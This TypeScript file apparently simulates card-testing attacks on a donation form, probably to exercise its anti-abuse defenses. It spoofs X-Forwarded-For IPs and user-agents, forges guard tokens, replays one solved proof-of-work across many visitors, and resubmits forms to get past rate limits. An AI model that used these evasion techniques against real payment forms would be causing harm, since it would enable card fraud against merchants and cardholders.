import { randomBytes, randomInt, randomUUID } from 'node:crypto'
import { setTimeout as pause } from 'node:timers/promises'
import { doTheWork, openForm, sendForm, type Fields, type Visitor } from './donation-form.ts'

/** Each attempt is one of these machines, in turn. */
const KINDS = [
  ...Array.from({ length: 4 }, () => sendBlindly),
  ...Array.from({ length: 5 }, () => sendAtOnce),
  ...Array.from({ length: 4 }, () => replayWork),
  insist,
  waitAsTold,
]

type Attack = {
  site: string
  /** When it is over, in milliseconds since 1970. */
  end: number
  /** A form of which the work was done, for all that replay it. */
  solved: { fields: Promise<Fields> | null }
}

/**
 * Tries out cards: so many attempts, spread evenly, each from another network with other headers and another form.
 * Resolves when the last has ended. No machine does the work for itself but one, whose proof the others replay.
 */
export async function tryOutCards(
  site: string,
  { attempts, milliseconds }: { attempts: number; milliseconds: number },
) {
  const attack: Attack = { site, end: Date.now() + milliseconds, solved: { fields: null } }
  const machines: Promise<unknown>[] = []
  for (let attempt = 0; attempt < attempts; attempt += 1) {
    const machine = KINDS[attempt % KINDS.length]
    // What one machine runs into is its own affair.
    if (machine) machines.push(machine(attack).catch(() => undefined))
    await pause(milliseconds / attempts)
  }
  await Promise.all(machines)
}

/** Has a form from somewhere else, or from yesterday. */
async function sendBlindly({ site }: Attack): Promise<void> {
  const { campaign = '' } = await openForm(someone(site))
  const guard = `${Date.now().toString(36)}.${randomBytes(9).toString('base64url')}.${randomBytes(32).toString('base64url')}`
  const form = { campaign, attempt: randomUUID(), guard, currency: 'EUR', consent_version: '2026-11-22' }
  await sendForm(someone(site), { ...form, frequency: 'once', preset: 'other', amount: '5', consent: 'yes' })
}

async function sendAtOnce({ site }: Attack): Promise<void> {
  const visitor = someone(site)
  await sendForm(visitor, await openForm(visitor))
}

/** By turns: the solved form itself, and its proof on a form of their own. */
async function replayWork({ site, end, solved }: Attack): Promise<void> {
  const visitor = someone(site)
  solved.fields ??= solveOne(visitor, end)
  const { challenge = '', answer = '', ...rest } = await solved.fields
  const own = randomInt(2) === 0 ? rest : await openForm(visitor)
  await sendForm(visitor, { ...own, challenge, answer })
}

async function solveOne(visitor: Visitor, end: number): Promise<Fields> {
  while (Date.now() < end) {
    const sent = await sendForm(visitor, await openForm(visitor))
    if (sent.outcome === 'proof_needed') return doTheWork(sent.fields)
    await pause(200)
  }
  throw new Error('nobody asked for work')
}

/** Sends the same form again and again. */
async function insist({ site, end }: Attack): Promise<void> {
  const fields = await openForm(someone(site))
  for (let time = 0; time < 5 && Date.now() < end; time += 1) await sendForm(someone(site), fields)
}

/** As patient as anybody without scripts, and quicker. */
async function waitAsTold({ site, end }: Attack): Promise<void> {
  const visitor = someone(site)
  let sent = await sendForm(visitor, await openForm(visitor))
  while (sent.outcome === 'proof_needed') {
    const rest = end - Date.now()
    if (sent.seconds * 1000 > rest) return
    await pause(sent.seconds * 1000)
    sent = await sendForm(visitor, sent.fields)
  }
}

function someone(site: string): Visitor {
  const octet = (): number => randomInt(1, 224)
  return {
    site,
    headers: {
      'user-agent': `Mozilla/5.0 (${randomBytes(6).toString('hex')})`,
      'accept-language': ['fr', 'en', 'ru', 'de'][randomInt(4)] ?? 'fr',
      'x-forwarded-for': [octet(), octet(), octet(), octet()].join('.'),
    },
  }
}
